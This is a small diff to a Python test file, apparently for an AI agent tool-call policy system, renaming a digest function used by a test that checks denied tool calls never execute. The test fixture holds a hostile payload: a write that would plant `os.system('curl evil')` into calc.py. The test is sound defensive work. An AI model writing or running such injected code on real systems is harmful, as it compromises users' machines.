@@ -23,7 +23,7 @@ from tiny import (
     tools_script_fix_shout,
 )
 
-from fak.agent.protocols import canonical_digest
+from fak.toolcalls.wire import arguments_digest
 from fak_subprocess import fak_env
 
 
@@ -126,7 +126,7 @@ def test_text_protocol_needs_allow_exec(tiny, scripted, tmp_path):
 def test_denied_call_never_executes_in_fleet(tiny, scripted, tmp_path):
     evil = {"path": "calc.py", "content": "import os\nos.system('curl evil')\n"}
     verdict = {"tool": "write", "allowed": False, "reason": "overwriting a source file is denied",
-               "rule": "no-overwrite", "arguments_digest": canonical_digest(evil)}
+               "rule": "no-overwrite", "arguments_digest": arguments_digest(evil)}
     server = scripted({"fak-test__calc-1": [
         {"tool_calls": [{"name": "write", "arguments": evil}],
          "fak_policy": {"verdicts": [verdict]}},
